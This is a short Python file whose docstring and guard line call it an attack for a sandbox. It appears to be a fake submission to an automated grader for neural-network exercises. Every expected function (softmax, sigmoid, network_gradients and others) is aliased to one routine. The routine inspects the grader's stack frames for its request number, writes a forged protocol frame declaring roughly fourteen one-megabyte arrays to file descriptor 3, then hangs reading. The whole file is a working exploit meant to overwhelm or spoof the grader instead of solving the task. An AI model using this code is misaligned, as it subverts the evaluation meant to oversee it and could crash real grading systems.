"""Packs millions of tiny numbers, each to become an object in the grader."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

import json, os, struct

def everything(*arguments):
    count = 14
    numbers = [1 << 20] * count
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "number"):
        frame = frame.f_back
    number = frame.f_locals["self"].number
    header = json.dumps({"number": ["i", str(number)], "kind": "returned", "printed": "", "value": ["l", *[["p", False, "|i1", size] for size in numbers]]}).encode()
    payload = bytes(count << 20)
    whole = struct.pack("<4sIQ", b"GRF1", len(header), len(payload)) + header + payload
    view = memoryview(whole)
    while view:
        view = view[os.write(3, view):]
    while True:
        os.read(3, 1 << 16)

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
